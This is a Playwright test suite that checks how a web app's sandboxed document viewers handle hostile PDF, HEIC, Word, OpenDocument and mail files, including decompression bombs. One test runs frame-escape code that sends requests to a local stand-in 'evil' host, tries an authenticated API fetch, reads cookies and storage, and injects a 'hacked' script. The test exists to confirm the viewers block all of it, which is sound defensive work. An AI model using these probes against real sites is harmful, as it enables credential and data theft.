import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { PASSPHRASE } from '../fixture/keys.ts';
import { colourIn } from './pixels';
import { CHROMIUM, Stage, photograph } from './stage';

/** Files that a program shows, made to harm; the stage records every outside request and every error. */
describe.skipIf(CHROMIUM === undefined)('viewers in Chromium', () => {
  const stage = Stage.forWalks();
  let page: Page;

  afterEach(async () => {
    await expect.poll(() => page.evaluate(() => 'hacked' in window)).toBe(false);
  });

  async function openHostile() {
    page = await stage.open();
    page.setDefaultTimeout(30_000);
    await stage.tell('hostile', page);
    await page.reload();
    await page.getByLabel('Passphrase of aysel').fill(PASSPHRASE);
    await page.getByRole('button', { name: 'Unlock', exact: true }).click();
    await page.getByText('Key open: aysel').waitFor();
    const rows = page.locator('[data-tip]');
    await rows.nth((await rows.count()) - 4).click();
  }

  const button = (name: string, file: number) =>
    page.getByRole('button', { name: new RegExp(`^${name}.*\\(file ${file}\\)`) });
  const view = (file: number) => page.locator(`iframe[title="View of file ${file}"]`);

  it('a PDF is seen page by page, blurred first, in a frame without an origin, and does nothing on its own', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 9).click();
    // Then
    const canvas = page.frameLocator('iframe[title="View of file 9"]').locator('canvas');
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('blur(14px)');
    await button('Show clearly', 9).click();
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('none');
    await expect.poll(() => colourIn(view(9))).toEqual([0x60, 0x60, 0x60]);
    expect(await canvas.getAttribute('aria-label')).toBe('They know my name');
    await photograph(page, 'work-pdf');
    await page.getByText('Page 1 of 2').waitFor();
    const next = page.getByRole('button', { name: 'Next page' });
    const whileAwaited = await next.evaluate(async (seen: HTMLButtonElement) => {
      seen.click();
      await Promise.resolve();
      return seen.ariaDisabled;
    });
    expect(whileAwaited).toBe('true');
    await page.getByText('Page 2 of 2').waitFor();
    expect(await page.getByText('Parts may be missing').count()).toBe(0);
    await expect.poll(() => colourIn(view(9))).toEqual([0, 0x80, 0]);
    expect(await view(9).getAttribute('sandbox')).toBe('allow-scripts');
    expect(await canvas.evaluate(() => origin)).toBe('null');
    expect(await Stage.barriers(page)).toEqual([]);
  });

  it('a viewer may be long on its way to the reader', async () => {
    // Given
    await openHostile();
    await page.clock.install();
    let come: () => void = () => undefined;
    const arrival = new Promise<void>((resolve) => (come = resolve));
    await page.route(/viewer-pdf/, async (route) => {
      await arrival;
      await route.continue();
    });
    // When
    const asked = page.waitForRequest(/viewer-pdf/);
    await button('Show document', 9).click();
    await asked;
    await page.clock.fastForward(40_000);
    come();
    // Then
    await page.getByText('Page 1 of 2').waitFor();
  });

  it.each([
    ['unpacks to gigabytes', 10],
    ['draws itself without end', 11],
    ['is a Word document that unpacks to a quarter of a gigabyte', 19],
  ])('a file that %s is thrown away, and the desk goes on', async (_what, file) => {
    // Given
    await openHostile();
    // When
    await button('Show document', file).click();
    // Then
    await page.getByText('wants more time or memory').waitFor({ timeout: file === 11 ? 60_000 : 25_000 });
    expect(await view(file).count()).toBe(0);
    await button('Show picture', 1).click();
    await view(1).waitFor();
  });

  it('a mask in a PDF lets through what it should', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 23).click();
    await button('Show clearly', 23).click();
    // Then
    await expect.poll(() => colourIn(view(23))).toEqual([0, 0, 0]);
    expect(await page.getByText('Parts may be missing').count()).toBe(0);
  });

  it('a scan in a PDF that would fill the memory is not drawn, and the reader is told', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 24).click();
    // Then
    await page.getByText('Parts may be missing').waitFor();
    await button('Show clearly', 24).click();
    await expect.poll(() => colourIn(view(24))).toEqual([0x60, 0x60, 0x60]);
  });

  it('a PDF that claims to be huge is drawn small', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 12).click();
    await button('Show clearly', 12).click();
    // Then
    const canvas = page.frameLocator('iframe[title="View of file 12"]').locator('canvas');
    await expect.poll(() => canvas.evaluate((seen: HTMLCanvasElement) => seen.width * seen.height)).toBeLessThan(12e6);
  });

  it('a HEIC picture is seen in its own colours, small and blurred first', async () => {
    // Given
    await openHostile();
    // When
    await button('Show picture', 15).click();
    // Then
    const canvas = page.frameLocator('iframe[title="View of file 15"]').locator('canvas');
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('blur(14px)');
    await button('Show clearly', 15).click();
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('none');
    await expect.poll(() => colourIn(view(15))).toEqual([0x60, 0x60, 0x60]);
    expect(await canvas.evaluate((seen: HTMLCanvasElement) => [seen.width, seen.height])).toEqual([320, 400]);
  });

  it.each([
    ['claims to be huge', 16, 'wants more time or memory'],
    ['is broken', 17, 'could not be fetched or drawn'],
  ])('a HEIC picture that %s is not shown', async (_what, file, words) => {
    // Given
    await openHostile();
    // When
    await button('Show picture', file).click();
    // Then
    await page.getByText(words).waitFor();
    expect(await view(file).count()).toBe(0);
  });

  it('a Word document is seen as text and pictures, and brings nothing from elsewhere', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 18).click();
    // Then
    const inside = page.frameLocator('iframe[title="View of file 18"]');
    await inside.getByRole('heading', { name: 'What they did' }).waitFor();
    await inside.getByText('at night & asked for me.&b;&x;').waitFor();
    await inside.getByText('<script>window.hacked=1</script>').waitFor();
    await inside.getByRole('cell', { name: '10-AA-000' }).waitFor();
    const canvas = inside.locator('canvas');
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('blur(14px)');
    await button('Show clearly', 18).click();
    await expect.poll(() => canvas.evaluate((seen) => getComputedStyle(seen).filter)).toBe('none');
    await expect.poll(() => colourIn(canvas)).toEqual([0x60, 0x60, 0x60]);
    await photograph(page, 'work-office');
    expect(await Stage.barriers(page)).toEqual([]);
  });

  it('an OpenDocument is seen without a picture that would fill the memory, and the reader is told', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 20).click();
    // Then
    const inside = page.frameLocator('iframe[title="View of file 20"]');
    await inside.getByRole('heading', { name: 'Names' }).waitFor();
    await page.getByText('Parts may be missing').waitFor();
    expect(await inside.locator('canvas').count()).toBe(0);
  });

  it('a mail is seen as text and pictures, and fetches nothing', async () => {
    // Given
    await openHostile();
    await page.getByText('a mail program would fetch what is in it').waitFor();
    // When
    await button('Show document', 21).click();
    // Then
    const inside = page.frameLocator('iframe[title="View of file 21"]');
    await inside.getByRole('heading', { name: 'They know ü' }).waitFor();
    await inside.getByText('second line').waitFor();
    await button('Show clearly', 21).click();
    await expect.poll(() => colourIn(inside.locator('canvas'))).toEqual([0x60, 0x60, 0x60]);
  });

  it('code that has taken over the frame reaches nothing', async () => {
    // Given
    await openHostile();
    await button('Show document', 9).click();
    await page.getByText('Page 1 of 2').waitFor();
    const url = page.url();
    const asked: string[] = [];
    const host = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*').end();
    }).listen(0, '127.0.0.1');
    await once(host, 'listening');
    const evil = `127.0.0.1:${(host.address() as AddressInfo).port}`;
    const frame = page.frames().find((each) => each.url().endsWith('/viewer.html'));
    // When
    const reached = await frame?.evaluate(
      async ({ own, evil: name }) => {
        const evil = `http://${name}`;
        const got: string[] = [];
        const attempt = async (name: string, what: () => unknown) => {
          try {
            if ((await what()) !== null) got.push(name);
          } catch {
            // Refused.
          }
        };
        const element = (tag: string, set: object) =>
          document.body.appendChild(Object.assign(document.createElement(tag), set));
        element('img', { src: `${evil}/img` });
        element('iframe', { src: `${evil}/frame` });
        element('link', { rel: 'stylesheet', href: `${evil}/css` });
        element('script', { src: `${evil}/js` });
        element('script', { textContent: 'top.hacked = parent.hacked = 1' });
        (element('form', { action: `${evil}/form`, method: 'post' }) as HTMLFormElement).submit();
        await attempt('another host', () => fetch(`${evil}/fetch`));
        await attempt('the desk', () => fetch(`${own}api/me`, { credentials: 'include' }));
        await attempt(
          'a socket',
          () =>
            new Promise((open, fail) => {
              Object.assign(new WebSocket(`ws://${name}/socket`), { onopen: open, onerror: fail });
            }),
        );
        await attempt('cookies', () => document.cookie);
        await attempt('storage', () => localStorage);
        await attempt(
          'databases',
          () =>
            new Promise((open, fail) => {
              Object.assign(indexedDB.open('x'), { onsuccess: open, onerror: fail });
            }),
        );
        await attempt('the page', () => parent.document);
        await attempt('a window', () => open(`${evil}/popup`));
        await attempt('a string as code', () => import(/* @vite-ignore */ `data:text/javascript,${own.length}`));
        await attempt('the address of the page', () => {
          window.top?.location.replace(`${evil}/top`);
        });
        return got;
      },
      { own: url, evil },
    );
    await frame?.evaluate((name) => {
      location.href = `http://${name}/self`;
    }, evil);
    // Then
    await expect.poll(() => stage.provoked().join('\n')).toContain("frame-src 'self'");
    expect(reached).toEqual([]);
    await fetch(`http://${evil}/this-walk`);
    expect(asked).toEqual(['/this-walk']);
    host.close();
    expect(page.url()).toBe(url);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('a PDF that is broken is not shown', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 14).click();
    // Then
    await page.getByText('This file could not be fetched or drawn').waitFor();
    expect(await view(14).count()).toBe(0);
  });

  it('a PDF with a password is not shown, and the reader is told why', async () => {
    // Given
    await openHostile();
    // When
    await button('Show document', 13).click();
    // Then
    await page.getByText('This file needs a password').waitFor();
  });
});
